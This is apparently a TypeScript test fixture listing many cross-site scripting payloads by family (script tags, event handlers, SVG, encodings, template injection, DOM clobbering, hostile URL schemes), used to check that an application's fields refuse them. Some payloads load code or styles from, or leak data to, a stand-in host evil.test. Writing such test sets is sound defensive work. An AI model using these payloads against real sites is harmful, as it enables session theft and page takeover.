/**
 * Script injection payloads by family. Each calls `alert`, fits every text field in one line, and
 * is short enough for a name.
 */
import { limits } from '../../domain/limits.ts';

const RUN = 'alert(1)';

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script/>`,
  `<script type=module>${RUN}</script>`,
  `<script src=data:,${RUN}></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script>alert\`1\`</script>`,
  `<script>top["al"+"ert"](1)</script>`,
  `<script>eval(atob("YWxlcnQoMSk="))</script>`,
  `<script async defer>${RUN}</script`,
  `<script nonce="">${RUN}</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["//evil.test"]}]}</script>`,
  `<script type="importmap">{"imports":{"x":"data:text/javascript,${RUN}"}}</script>`,
  `<link rel=modulepreload href="data:text/javascript,${RUN}">`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<base href=//evil.test/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
];

const handlers = [
  'img src=x onerror',
  'img src onerror',
  'IMG SRC=x OnErRoR',
  'img/src=x/onerror',
  'image src=x onerror',
  'body onload',
  'body onpageshow',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'button autofocus onfocus',
  'a href=# tabindex=1 autofocus onfocus',
  'details open ontoggle',
  'video src=x onerror',
  'video><source onerror',
  'audio src=x onerror',
  'video autoplay onloadstart',
  'object data=x onerror',
  'embed src=x onload',
  'iframe onload',
  'iframe src=about:blank onload',
  'frameset onload',
  'marquee onstart',
  'style onload',
  'link rel=stylesheet href=x onerror',
  'div onpointerrawupdate',
  'div onmouseover',
  'p style=animation-name:x onanimationstart',
  'p oncontentvisibilityautostatechange',
  'x contenteditable autofocus onfocus',
  'xss onpointerenter',
  'form onformdata',
  'dialog open onbeforetoggle',
  'button popovertarget=x>x</button><xss popover id=x onbeforetoggle',
].map((opening) => `<${opening}=${RUN}>`);

const drawings = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${RUN} /><a id=x><text y=9>x</text></a>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></use></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><title><img src=x onerror=${RUN}></title></svg>`,
  `<svg><image href=x onerror=${RUN}></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<table><td background="javascript:${RUN}"></table>`,
];

const leaps = [
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '" x="',
  "' x='",
  '"/>',
  '\\"',
  "\\'",
  '&quot;',
  '&#34;',
];
const landings = [`<svg onload=${RUN}>`, ` autofocus onfocus=${RUN} x=`, ` onmouseover=${RUN} `];
const attributes = leaps.flatMap((leap) => landings.map((landing) => `${leap}${landing}`));

const closings = [
  '</script>',
  '"}</script>',
  '"}]}</script>',
  '<!--<script>',
  '-->',
  '--!>',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</noscript>',
  '</template>',
  '</select>',
  '</option>',
  '</iframe>',
  '</xmp>',
  '</plaintext>',
  '</astro-island>',
  '</astro-slot>',
  '\\u003c/script>',
].map((closing) => `${closing}<img src=x onerror=${RUN}>`);

const entities = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `&#0000060img src=x onerror=${RUN}>`,
  `&LT;svg onload=${RUN}&GT;`,
  `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>`,
  `<img src=x onerror="&#x61lert(1)">`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="java&Tab;script:${RUN}">x</a>`,
  `<a href="java&NewLine;script:${RUN}">x</a>`,
  `<a href="javascript&colon;${RUN}">x</a>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cscript%253E${RUN}%253C/script%253E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

const templates = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `{{'a'.constructor.prototype.charAt=[].join;$eval('x=${RUN}')}}`,
  `{${RUN}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `*{${RUN}}`,
  `<%= ${RUN} %>`,
  `{%${RUN}%}`,
  `{{{${RUN}}}}`,
  `[[\${${RUN}}]]`,
  `@(${RUN})`,
  `<div v-html="'<img src=x onerror=${RUN}>'">`,
  `<div x-data x-init="${RUN}">`,
  `<div ng-app ng-csp>{{$eval.constructor('${RUN}')()}}</div>`,
  `$& $\` $' $$ $1 <img src=x onerror=${RUN}>`,
  `[x](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
];

const spellings = [
  `＜script＞${RUN}＜/script＞`,
  `<ſcript>${RUN}</ſcript>`,
  `<ıframe onload=${RUN}>`,
  `<scr\u200bipt>${RUN}</scr\u200bipt>`,
  `\u202e>)1(trela=rorreno x=crs gmi<`,
  `<\u0338script>\u0338${RUN}`,
  `<img src=x onerror\u3000=${RUN}>`,
  `<img\u00a0src=x\u00a0onerror=${RUN}>`,
  `<svg\ufeffonload=${RUN}>`,
  `ʺ><svg onload=${RUN}>`,
  `″ onmouseover=${RUN} ″`,
  `%C0%BCscript%C0%BE${RUN}`,
  `<ScRiPt\u2003>${RUN}</sCrIpT\u2003>`,
  `💥"><img src=💥 onerror=${RUN}>`,
];

const clobbering = [
  '<form id=documentElement><input name=attributes>',
  '<img name=trustedTypes><img name=body>',
  '<a id=accessToken href=//evil.test>x</a>',
  '<form name=document><input name=cookie>',
  '<iframe name=alert srcdoc="x">',
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<div style="background:url(javascript:${RUN})">`,
  `<div style="width:expression(${RUN})">`,
  `<style>@import"//evil.test/x.css";</style>`,
  `<style>*{background:url(//evil.test/?leak)}</style>`,
];

/** Addresses with payloads, which every address field refuses. */
export const hostileAddresses: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `\u200bjavascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript://example.org/%0a${RUN}`,
  `javascript:https://example.org/;${RUN}`,
  `javascript&colon;${RUN}`,
  `%6aavascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `VBScript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:https://example.org/${RUN}`,
  'file:///etc/passwd',
  '//evil.test/x.js',
  '\\\\evil.test\\x.js',
  '/\\evil.test',
  'https:\\\\evil.test',
  'http:evil.test',
  'https://',
  'https://user:word@evil.test/',
  'https://exa mple.org/',
];

/** The payloads by family. */
export const families: Readonly<Record<string, readonly string[]>> = {
  scripts,
  handlers,
  drawings,
  attributes,
  closings,
  entities,
  templates,
  spellings,
  clobbering,
  addresses: hostileAddresses.filter((address) => /^[^\p{Cc}]+$/u.test(address)),
};

/** Payloads for the browser: all of them, or a few of every family. */
export function chosenPayloads(all: boolean): string[] {
  const chosen = Object.values(families).map((family) => (all ? family : family.slice(0, 2)));
  return chosen.flat().map((payload) => payload.trim().normalize('NFC'));
}

/** Joins payloads into texts as long as a field accepts. */
export function packPayloads(payloads: readonly string[], max: number = limits.name): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const joined = `${texts.at(-1) ?? ''} ${payload}`.trim();
    if (texts.length > 0 && joined.length <= max) texts[texts.length - 1] = joined;
    else texts.push(payload);
  }
  return texts;
}
